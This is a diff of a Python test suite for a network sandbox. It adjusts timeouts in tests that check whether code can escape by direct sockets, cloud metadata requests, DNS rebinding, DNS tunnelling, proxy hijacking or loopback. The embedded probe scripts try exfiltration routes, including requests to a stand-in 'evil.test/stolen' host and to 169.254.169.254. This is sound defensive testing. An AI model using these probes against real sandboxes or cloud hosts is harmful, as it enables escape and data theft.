@@ -26,7 +26,7 @@ DIRECT = r"""
 for a in sys.argv[1:]:
     six = ":" in a
     for p in (80, 443, 53, 22, 6379, 8443):
-        out[f"tcp {a} {p}"] = talk((a, p), "GET /direct HTTP/1.0\r\n\r\n", wait=0.4)
+        out[f"tcp {a} {p}"] = talk((a, p), "GET /direct HTTP/1.0\r\n\r\n")
     for p in (53, 123, 443, 5353):
         out[f"udp {a} {p}"] = attempt(lambda: send_udp(a, p))
     out[f"icmp {a}"] = attempt(lambda: send_icmp(a))
@@ -49,7 +49,7 @@ def test_N01_nothing_leaves_by_a_direct_path(cell, lab):
     assert {p for p, _, _ in watch.reached()} >= {"tcp", "udp"}, "control: packets are seen"
     for options in ([], ALLOW):
         watch.again()
-        answer = cell.script(DIRECT, options, EVERYWHERE, timeout=120)
+        answer = cell.script(DIRECT, options, EVERYWHERE)
         through = {k: v for k, v in answer.out.items() if "SINK" in v}
         assert not through, through
         watch.nothing()
@@ -120,7 +120,7 @@ def twice():
 out["connect twice"] = attempt(twice)
 def sendto():
     s = socket.socket()
-    s.settimeout(1)
+    s.settimeout(WAIT)
     s.sendto(b"GET /sendto HTTP/1.0\r\n\r\n", (A, 80))
     return s.recv(200).decode("latin-1")
 out["sendto"] = attempt(sendto)
@@ -175,7 +175,7 @@ def test_N02_metadata(cell, lab):
     shown = control_script('out["x"] = talk(("169.254.169.254", 80), request("/latest", "x"))', user=cell.user)
     assert "SINK" in shown["x"], "control: it answers where nothing guards it"
     watch = lab.watch()
-    answer = cell.script(EVERY_WAY, ALLOW, quiet_hosts(METADATA_HOSTS), timeout=120)
+    answer = cell.script(EVERY_WAY, ALLOW, quiet_hosts(METADATA_HOSTS))
     good = {k: v for k, v in answer.out.items() if "SINK" in v or "HTTP/1.1 200" in v}
     assert not good, good
     watch.only(*WEB)
@@ -230,7 +230,7 @@ def test_N03_allowed_names_that_lead_to_private_addresses(cell, lab):
     shown = control_script('out["x"] = by_name("p0.rebind.test", 80); out["c"] = by_name("c9.rebind.test", 80)')
     assert "SINK" in shown["x"] and "SINK" in shown["c"], "control"
     watch = lab.watch()
-    answer = cell.script(LEADS, ["--allow", "*.rebind.test", "--requests", "100000"], [json.dumps(names)], timeout=120)
+    answer = cell.script(LEADS, ["--allow", "*.rebind.test", "--requests", "100000"], [json.dumps(names)])
     bad = {k: v[:80] for k, v in answer.out.items() if "SINK" in v}
     assert not bad, bad
     watch.only(*WEB)
@@ -260,7 +260,7 @@ def test_N04_rebinding(cell, lab):
     assert any("SINK" in v for v in shown.values()), "control: the name turns"
     script()
     watch.again()
-    answer = cell.script(REBIND, ["--allow", "*.rebind.test", "--requests", "100000"], timeout=120)
+    answer = cell.script(REBIND, ["--allow", "*.rebind.test", "--requests", "100000"])
     assert not [k for k, v in answer.out.items() if "SINK" in v]
     watch.only(*WEB)
     assert any("HTTP/1.1 200" in v for v in answer.out.values()), "the public answers are used"
@@ -274,24 +274,24 @@ for n in names:
     out["lookup6 " + n] = lookup(n, socket.AF_INET6)
     for server in ("127.0.0.1", sys.argv[2], "8.8.8.8", "::1", "127.0.0.53"):
         for kind in (1, 28, 16, 5, 15, 33, 10, 255, 2, 12, 65):
-            out[f"udp {server} {kind} {n}"] = ask(server, question(n, kind), wait=0.2)
-        out[f"tcp {server} {n}"] = ask(server, question(n), "tcp", wait=0.2)
-        out[f"dot {server} {n}"] = ask(server, question(n), "tcp", 853, wait=0.2)
+            out[f"udp {server} {kind} {n}"] = ask(server, question(n, kind))
+        out[f"tcp {server} {n}"] = ask(server, question(n), "tcp")
+        out[f"dot {server} {n}"] = ask(server, question(n), "tcp", 853)
     out["absolute " + n] = by_proxy(f"http://{n}/", n)
     out["connect " + n] = by_connect(f"{n}:443", "x")
     out["gateway " + n] = by_gateway(f"http://{n}/")
     out["host " + n] = talk(("api.lab.test", 80), request("/", n))
     out["sni " + n] = by_connect("api.lab.test:443", request("/", n), tls=n)
     out["sni direct " + n] = talk(("api.lab.test", 443), request("/", n), tls=n)
-    out["socks " + n] = talk(PROXY, b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(n)]) + n.encode() + b"\0\x50", wait=0.3)
+    out["socks " + n] = talk(PROXY, b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(n)]) + n.encode() + b"\0\x50", wait=BRIEF)
     out["ftp " + n] = by_proxy(f"ftp://{n}/", n)
 # A message with two questions, with a compressed name, with a name in its additional section.
 q = question("api.lab.test")
 two = q[:4] + struct.pack("!H", 2) + q[6:] + question(names[0])[12:]
-out["two questions"] = ask("127.0.0.1", two, wait=0.2)
-out["update"] = ask("127.0.0.1", question(names[0], flags=0x2800), wait=0.2)
-out["chaos"] = ask("127.0.0.1", question(names[0], klass=3), wait=0.2)
-out["upper"] = ask("127.0.0.1", question(names[0].upper()), wait=0.2)
+out["two questions"] = ask("127.0.0.1", two)
+out["update"] = ask("127.0.0.1", question(names[0], flags=0x2800))
+out["chaos"] = ask("127.0.0.1", question(names[0], klass=3))
+out["upper"] = ask("127.0.0.1", question(names[0].upper()))
 out["good"] = lookup("api.lab.test")
 out["good twice"] = by_name("api.lab.test", 80)
 """
@@ -306,7 +306,7 @@ def test_N12_names_carry_nothing_out(cell, lab):
                    user=cell.user)
     assert any(token.lower() in n for n in watch.names()), "control: the name server hears it"
     watch.again()
-    answer = cell.script(TUNNEL, [*ALLOW, "--requests", "100000"], [token, RESOLVER], timeout=120)
+    answer = cell.script(TUNNEL, [*ALLOW, "--requests", "100000"], [token, RESOLVER])
     carried = [n for n in watch.names() if n != "api.lab.test"]
     assert not carried, carried
     assert not watch.sink() and not [r for r in watch.reached() if r[1] not in WEB]
@@ -338,7 +338,7 @@ import urllib.request
 for proxy in ("http://8.8.8.8:8080", f"http://{sys.argv[1]}:8080", "http://127.0.0.1:3128"):
     opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy}))
     try:
-        out["by " + proxy] = opener.open("http://evil.test/ignore", timeout=2).read().decode("latin-1")
+        out["by " + proxy] = opener.open("http://evil.test/ignore", timeout=WAIT).read().decode("latin-1")
     except OSError as e:
         out["by " + proxy] = "!" + str(e)
 """
@@ -382,10 +382,11 @@ def listening():
 
 STEAL = r"""
 ports, names = json.loads(sys.argv[1]), json.loads(sys.argv[2])
+wait = float(sys.argv[3]) if sys.argv[3:] else WAIT
 for p in sorted({*ports, 3128, 3129, 8080, 1080, 53}):
     for a in ("127.0.0.1", "::1", "127.0.0.2", "0.0.0.0"):
         for auth in ([], ["Proxy-Authorization: Basic YnJpZzpicmln"]):
-            out[f"{a} {p} {len(auth)}"] = talk((a, p), request("http://evil.test/stolen", "evil.test", headers=auth), wait=0.3)
+            out[f"{a} {p} {len(auth)}"] = talk((a, p), request("http://evil.test/stolen", "evil.test", headers=auth), wait=wait)
 for n in names:
     def run():
         with socket.socket(socket.AF_UNIX) as s:
@@ -407,12 +408,12 @@ def test_N14_the_proxy_of_another_sandbox(cell, lab):
         assert watch.requests(EVIL)
         ports, names = listening()
         watch.again()
-        answer = cell.script(STEAL, ALLOW, [json.dumps(sorted(ports)), json.dumps(sorted(names))], timeout=120)
+        answer = cell.script(STEAL, ALLOW, [json.dumps(sorted(ports)), json.dumps(sorted(names))])
         good = {k: v[:60] for k, v in answer.out.items() if "HTTP/1.1 200" in v or v == "CONNECTED"}
         assert not good, good
         assert not watch.requests(EVIL) and not watch.sink()
-        # Nor from the host, by whatever listens there.
-        host = control_script(STEAL, [json.dumps(sorted(ports)), json.dumps([])], user="user", timeout=120)
+        # Nor from the host, by whatever listens there; what only one process may use gives others no answer.
+        host = control_script(STEAL, [json.dumps(sorted(ports)), json.dumps([]), "0.4"], user="user")
         assert not watch.requests(EVIL), "somebody on the host used the sandbox's proxy"
         assert not [k for k, v in host.items() if '"method"' in v]
     finally:
@@ -432,7 +433,7 @@ def test_N14_a_host_process_races_the_broker(cell, lab):
                              and x.split()[1].startswith("0100007F")}
                 for port in ports - set(netlab.SINK_PORTS_TCP):
                     try:
-                        with socket.create_connection(("127.0.0.1", port), 0.2) as s:
+                        with socket.create_connection(("127.0.0.1", port), 1) as s:
                             s.sendall(b"GET http://api.lab.test/intruder HTTP/1.1\r\nHost: api.lab.test\r\n\r\n")
                             s.settimeout(0.05)
                             tried[0] += 1
@@ -447,7 +448,7 @@ def test_N14_a_host_process_races_the_broker(cell, lab):
         t.start()
     try:
         answer = cell.script('for i in range(150): out[str(i)] = status(by_proxy("http://api.lab.test/own", "api.lab.test"))',
-                             [*ALLOW, "--requests", "100000"], timeout=120)
+                             [*ALLOW, "--requests", "100000"])
     finally:
         stop.set()
         for t in threads:
@@ -472,7 +473,7 @@ except OSError as e:
     print("not", name_of(e), flush=True)
     sys.stdin.readline()
 out.clear()"""
-    process = cell.start(["/usr/bin/python3", "-c", script_text(code)], [*options, "--timeout", "60s"], json_out=False,
+    process = cell.start(["/usr/bin/python3", "-c", script_text(code)], [*options, "--timeout", "300s"], json_out=False,
                          stdin=subprocess.PIPE)
     try:
         told(process, "\n")
@@ -483,7 +484,7 @@ out.clear()"""
             except OSError:
                 reached = False
             assert not reached, address
-        neighbour = cell.script(f'out["x"] = talk(("127.0.0.1", {port}), "x", wait=0.3)', ALLOW)
+        neighbour = cell.script(f'out["x"] = talk(("127.0.0.1", {port}), "x")', ALLOW)
         assert neighbour["x"].startswith("!"), neighbour["x"]
         assert b"REACHED" not in process.communicate(b"\n", timeout=60)[0]
     finally:
@@ -500,7 +501,7 @@ for h in json.loads(sys.argv[1]):
     for p in (80, 22, 6379, 2375, 8080):
         out[f"absolute {h} {p}"] = by_proxy(f"http://{h}:{p}/loop", f"{h}:{p}")
         out[f"connect {h} {p}"] = by_connect(f"{h}:{p}", request("/loop", h))
-        out[f"direct {h} {p}"] = talk((h.strip("[]"), p), request("/loop", h), wait=0.3)
+        out[f"direct {h} {p}"] = talk((h.strip("[]"), p), request("/loop", h))
     out[f"gateway {h}"] = by_gateway(f"http://{h}/loop")
     out[f"host {h}"] = talk(("api.lab.test", 80), request("/loop", h))
 """
@@ -513,7 +514,7 @@ def test_N19_host_loopback(cell, lab):
                            user=cell.user)
     assert "SINK" in shown["x"] and "SINK" in shown["y"], "control"
     watch = lab.watch()
-    answer = cell.script(LOOP_WAYS, [*ALLOW, "--requests", "100000"], quiet_hosts(LOOPS), timeout=120)
+    answer = cell.script(LOOP_WAYS, [*ALLOW, "--requests", "100000"], quiet_hosts(LOOPS))
     good = {k: v[:80] for k, v in answer.out.items() if "SINK" in v}
     assert not good, good
     watch.only(*WEB)
@@ -539,8 +540,8 @@ out["known"] = known
 for a in ("198.18.0.1", "198.18.1.200", "198.19.255.254", "198.18.0.0", "fd62:7269:6700::7", "fd62:7269:6700::ffff",
           "fd62:7269:6701::1", "::ffff:198.18.1.200", "0.0.0.1"):
     if a not in known:
-        out[f"stand-in {a}"] = talk((a, 80), request("/literal", "api.lab.test"), wait=0.5)
-        out[f"stand-in tls {a}"] = talk((a, 443), request("/literal", "api.lab.test"), tls="api.lab.test", wait=0.5)
+        out[f"stand-in {a}"] = talk((a, 80), request("/literal", "api.lab.test"))
+        out[f"stand-in tls {a}"] = talk((a, 443), request("/literal", "api.lab.test"), tls="api.lab.test")
 """
 
 
@@ -551,7 +552,7 @@ def test_N21_addresses_instead_of_names(cell, lab):
     shown = control_script(LITERAL, [API, API6], user=cell.user)
     assert sum("HTTP/1.1 200" in str(v) for v in shown.values()) >= 9, "control: nothing but brig asks for names"
     watch.again()
-    answer = cell.script(LITERAL, ALLOW, [API, API6], timeout=120)
+    answer = cell.script(LITERAL, ALLOW, [API, API6])
     good = {k: v[:60] for k, v in answer.out.items() if "HTTP/1.1 200" in v}
     assert not good, good
     assert b"/literal" not in watch.bytes()
@@ -565,14 +566,14 @@ def test_N21_addresses_instead_of_names(cell, lab):
 
 LOOPING = r"""
 address = lookup("api.lab.test")[0]  # once: a resolver that gets no answer is slow
-def round():
-    return [status(talk(PROXY, request("http://api.lab.test/beat", "api.lab.test"), wait=1)),
-            status(talk((address, 80), request("/beat", "api.lab.test"), wait=1)),
-            status(talk(("10.13.13.13", 80), request("/beat", "x"), wait=0.3)), status(talk(("8.8.8.8", 53), "x", wait=0.3)),
+def round(wait):
+    return [status(talk(PROXY, request("http://api.lab.test/beat", "api.lab.test"), wait=wait)),
+            status(talk((address, 80), request("/beat", "api.lab.test"), wait=wait)),
+            status(talk(("10.13.13.13", 80), request("/beat", "x"), wait=1)), status(talk(("8.8.8.8", 53), "x", wait=1)),
             attempt(lambda: send_udp("8.8.8.8", 53))]
-print(json.dumps(round()), flush=True)
-for line in sys.stdin:
-    print(json.dumps(round()), flush=True)
+print(json.dumps(round(WAIT)), flush=True)
+for line in sys.stdin:  # now something is wrong with the proxy, and no answer is due
+    print(json.dumps(round(1)), flush=True)
 out.clear()
 """
 
@@ -584,7 +585,7 @@ def proxy_of(process):
 
 
 def start_looping(cell, options=ALLOW):
-    process = cell.start(["/usr/bin/python3", "-c", script_text(LOOPING)], [*options, "--timeout", "40s"], json_out=False,
+    process = cell.start(["/usr/bin/python3", "-c", script_text(LOOPING)], [*options, "--timeout", "300s"], json_out=False,
                          stdin=subprocess.PIPE)
     first = process.stdout.readline()
     assert first.strip(), process.stderr.read()[-2000:]
@@ -613,7 +614,7 @@ def test_N20_the_proxy_is_killed(cell, lab, diff):
         assert pids, "the proxy is a process of its own"
         for pid in pids:
             os.kill(pid, signal.SIGKILL)
-        hostview.wait_for(lambda: not proxy_of(process), 5)
+        assert hostview.wait_for(lambda: not proxy_of(process))
         watch.again()
         for _ in range(2):
             results = next_round(process)
@@ -622,7 +623,7 @@ def test_N20_the_proxy_is_killed(cell, lab, diff):
         assert not watch.requests()
         process.stdin.close()
         process.stdin = None
-        result = finish(process, 30)
+        result = finish(process)
         assert result.rc != 0 or "proxy" in result.err, f"nobody was told: {result}"
     finally:
         end_tree(process)
@@ -643,9 +644,9 @@ def test_N20_the_proxy_is_stopped(cell, lab, diff):
         assert results is None or 200 not in results, results
         assert not watch.sink() and not watch.requests()
         process.kill()
-        process.wait(5)
+        process.wait(60)
         assert hostview.wait_for(lambda: not [p for p in pids if os.path.exists(f"/proc/{p}")
-                                              and hostview.stat_fields(p)[1] not in "ZX"], 5), "a stopped proxy stays"
+                                              and hostview.stat_fields(p)[1] not in "ZX"]), "a stopped proxy stays"
     finally:
         end_tree(process)
 
